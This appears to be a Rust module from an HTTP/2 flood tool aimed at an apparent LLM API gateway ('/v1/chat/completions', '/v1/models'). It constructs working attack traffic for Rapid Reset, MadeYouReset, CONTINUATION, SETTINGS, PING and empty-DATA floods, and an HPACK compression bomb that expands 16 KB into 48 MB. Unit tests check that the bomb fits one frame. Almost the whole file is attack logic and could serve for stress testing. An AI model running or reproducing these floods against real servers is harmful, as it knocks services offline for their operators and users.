//! What each flood is made of.

use super::frames::{self, END_HEADERS, END_STREAM, Kind, Method};
use crate::attack::options::Attack;

/// Frames of one connection's flood, a batch at a time.
#[derive(Debug)]
pub(crate) struct Flood {
    attack: Attack,
    /// The next stream that a request takes.
    stream: u32,
}

/// Bytes to send and how many frames they are.
#[derive(Debug, Default)]
pub(crate) struct Batch {
    pub(crate) bytes: Vec<u8>,
    pub(crate) frames: u64,
}

impl Batch {
    fn frame(&mut self, kind: Kind, flags: u8, stream: u32, payload: &[u8]) {
        frames::frame(&mut self.bytes, kind, flags, stream, payload);
        self.frames += 1;
    }
}

impl Flood {
    pub(crate) const fn new(attack: Attack) -> Self {
        Self { attack, stream: 1 }
    }

    /// What goes before the flood.
    pub(crate) fn opening(&mut self) -> Batch {
        let mut batch = Batch::default();
        let head = frames::head(Method::Post, CHAT);
        match self.attack {
            Attack::Continuation => batch.frame(Kind::Headers, 0, self.stream, &head),
            Attack::EmptyData => batch.frame(Kind::Headers, END_HEADERS, self.stream, &head),
            _ => {}
        }
        batch
    }

    /// More of the same.
    pub(crate) fn batch(&mut self) -> Batch {
        let mut batch = Batch::default();
        let (frames, bytes) = (BATCH_FRAMES, BATCH_BYTES);
        while batch.frames < frames && batch.bytes.len() < bytes {
            self.more(&mut batch);
        }
        batch
    }

    fn more(&mut self, batch: &mut Batch) {
        match self.attack {
            Attack::Continuation => {
                let mut field = Vec::new();
                frames::field(&mut field, b"x-more", &[b'a'; 48]);
                batch.frame(Kind::Continuation, 0, self.stream, &field);
            }
            Attack::Settings => batch.frame(Kind::Settings, 0, 0, &[]),
            Attack::Ping => batch.frame(Kind::Ping, 0, 0, b"weirweir"),
            Attack::EmptyData => batch.frame(Kind::Data, 0, self.stream, &[]),
            Attack::HpackBomb => {
                let stream = self.take_stream();
                batch.frame(Kind::Headers, END_HEADERS | END_STREAM, stream, &bomb());
            }
            Attack::MadeYouReset => {
                let stream = self.request(batch);
                batch.frame(Kind::WindowUpdate, 0, stream, &[0; 4]);
            }
            _ => {
                let stream = self.request(batch);
                batch.frame(Kind::RstStream, 0, stream, &CANCEL);
            }
        }
    }

    fn request(&mut self, batch: &mut Batch) -> u32 {
        let stream = self.take_stream();
        batch.frame(
            Kind::Headers,
            END_HEADERS | END_STREAM,
            stream,
            &frames::head(Method::Get, "/v1/models"),
        );
        stream
    }

    /// A client's streams are odd; their numbers suffice for a billion requests.
    fn take_stream(&mut self) -> u32 {
        let stream = self.stream;
        self.stream += 2;
        stream
    }
}

/// One header of 4,000 bytes, and 12,000 references to it: 16 KB that stand for 48 MB.
fn bomb() -> Vec<u8> {
    let mut block = frames::head(Method::Get, "/v1/models");
    frames::remembered(&mut block, b"x", &[b'a'; 4000]);
    block.resize(block.len() + 12_000, frames::NEWEST);
    block
}

const CHAT: &str = "/v1/chat/completions";
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Small, so that the kernel's buffers hold little that the gateway has not seen when it says that it is enough.
const BATCH_FRAMES: u64 = 64;
const BATCH_BYTES: usize = 16 * 1024;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_fits_a_frame_that_every_server_takes() {
        assert!(bomb().len() <= 16_384, "{}", bomb().len());
    }

    #[test]
    fn requests_take_odd_streams_one_after_the_other() {
        let mut flood = Flood::new(Attack::RapidReset);
        let mut batch = flood.batch();
        let mut streams = Vec::new();
        while let Some((kind, _, stream, _)) = frames::next(&mut batch.bytes) {
            if kind == Kind::Headers as u8 {
                streams.push(stream);
            }
        }
        assert_eq!(&streams[..3], &[1, 3, 5]);
        assert_eq!(streams.len() as u64 * 2, batch.frames);
    }
}
